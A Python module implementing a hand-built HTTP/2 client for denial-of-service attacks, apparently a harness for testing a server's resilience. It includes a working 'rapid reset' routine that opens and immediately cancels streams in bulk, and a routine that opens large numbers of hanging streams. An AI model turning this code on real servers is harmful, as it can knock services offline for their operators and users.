"""An HTTP/2 client for attacks: frames written by hand, so that thousands of streams cost almost nothing."""

from __future__ import annotations

import asyncio
from collections.abc import Iterable
from contextlib import suppress

import hpack

from evenly.live.addresses import Address

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_HEADERS, _RST_STREAM, _SETTINGS, _PING, _GOAWAY = 1, 3, 4, 6, 7
_ACK = _END_STREAM = 1
_END_HEADERS = 4
_MAX_CONCURRENT_STREAMS = 3
_CANCEL = (8).to_bytes(4, "big")
_TIMEOUT_S = 10.0


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


_METHODS = {"GET": b"\x82", "POST": b"\x83"}  # entries of the static table


def _request(path: bytes, method: str = "GET") -> bytes:
    """Encode a request: method and scheme from the static table, and two literals that are not indexed."""
    return _METHODS[method] + b"\x86\x04" + bytes([len(path)]) + path + b"\x01\x05pools"


class Http2Client(asyncio.Protocol):
    """One connection. `answers` has the status of each answered stream, `refused` the streams that were reset."""

    def __init__(self) -> None:
        self.answers: dict[int, int] = {}
        self.refused: set[int] = set()
        self.opened: list[int] = []
        self.closed = False
        self.max_streams = 2**31
        self._settled: asyncio.Future[None] = asyncio.get_running_loop().create_future()
        self._pong: asyncio.Future[None] | None = None
        self._received = bytearray()
        self._decoder = hpack.Decoder()
        self._transport: asyncio.Transport | None = None
        self._next = 1

    @property
    def hanging(self) -> int:
        """The number of streams that are neither answered nor refused. A closed connection has none."""
        return 0 if self.closed else sum(s not in self.answers and s not in self.refused for s in self.opened)

    async def connect(self, server: Address) -> bool:
        """Connect, and wait for the server's settings. Return False if that fails."""
        try:
            async with asyncio.timeout(_TIMEOUT_S):
                await asyncio.get_running_loop().create_connection(lambda: self, *server)
                await self._settled
        except OSError:
            self.abort()
            return False
        return not self.closed

    def open(self, count: int, path: bytes = b"/hang", method: str = "GET") -> list[int]:
        """Open streams with one request each; return their ids."""
        ids = list(range(self._next, self._next + 2 * count, 2))
        self._next += 2 * count
        self.opened += ids
        block = _request(path, method)
        self._write(b"".join(_frame(_HEADERS, _END_STREAM | _END_HEADERS, stream, block) for stream in ids))
        return ids

    def reset(self, streams: list[int]) -> None:
        """Reset streams."""
        self._write(b"".join(_frame(_RST_STREAM, 0, stream, _CANCEL) for stream in streams))

    def open_and_reset(self, count: int, path: bytes = b"/hang") -> None:
        """Open streams, each followed by its reset: "rapid reset"."""
        block = _request(path)
        frames = bytearray()
        for stream in range(self._next, self._next + 2 * count, 2):
            frames += _frame(_HEADERS, _END_STREAM | _END_HEADERS, stream, block)
            frames += _frame(_RST_STREAM, 0, stream, _CANCEL)
        self._next += 2 * count
        self._write(bytes(frames))

    async def ping(self) -> None:
        """Wait until the server has read everything that was sent, or has closed the connection."""
        self._pong = asyncio.get_running_loop().create_future()
        if not self.closed:
            self._write(_frame(_PING, 0, 0, bytes(8)))
            with suppress(TimeoutError):
                async with asyncio.timeout(_TIMEOUT_S):
                    await self._pong

    def abort(self) -> None:
        """Close the connection at once."""
        if self._transport is not None:
            self._transport.abort()

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        """Send the preface and empty settings."""
        assert isinstance(transport, asyncio.Transport)
        self._transport = transport
        self._write(_PREFACE + _frame(_SETTINGS, 0, 0))

    def connection_lost(self, exc: Exception | None) -> None:
        """Nothing hangs any more."""
        self.closed = True
        for waiting in (self._settled, self._pong):
            if waiting is not None and not waiting.done():
                waiting.set_result(None)

    def data_received(self, data: bytes) -> None:
        """Read whole frames."""
        self._received += data
        while len(self._received) >= 9:
            end = 9 + int.from_bytes(self._received[:3], "big")
            if len(self._received) < end:
                return
            head, payload = bytes(self._received[:9]), bytes(self._received[9:end])
            del self._received[:end]
            self._read(head[3], head[4], int.from_bytes(head[5:], "big") & 0x7FFFFFFF, payload)

    def _read(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        if kind == _SETTINGS and not flags & _ACK:
            for at in range(0, len(payload), 6):
                if int.from_bytes(payload[at : at + 2], "big") == _MAX_CONCURRENT_STREAMS:
                    self.max_streams = int.from_bytes(payload[at + 2 : at + 6], "big")
            self._write(_frame(_SETTINGS, _ACK, 0))
            if not self._settled.done():
                self._settled.set_result(None)
        elif kind == _PING and not flags & _ACK:
            self._write(_frame(_PING, _ACK, 0, payload))
        elif kind == _PING and self._pong is not None and not self._pong.done():
            self._pong.set_result(None)
        elif kind == _HEADERS:
            self._answered(stream, self._decoder.decode(payload, raw=True))
        elif kind == _RST_STREAM:
            self.refused.add(stream)

    def _answered(self, stream: int, headers: Iterable[tuple[bytes, bytes]]) -> None:
        for name, value in headers:
            if name == b":status":
                self.answers[stream] = int(value)

    def _write(self, data: bytes) -> None:
        if self._transport is not None and not self._transport.is_closing():
            self._transport.write(data)
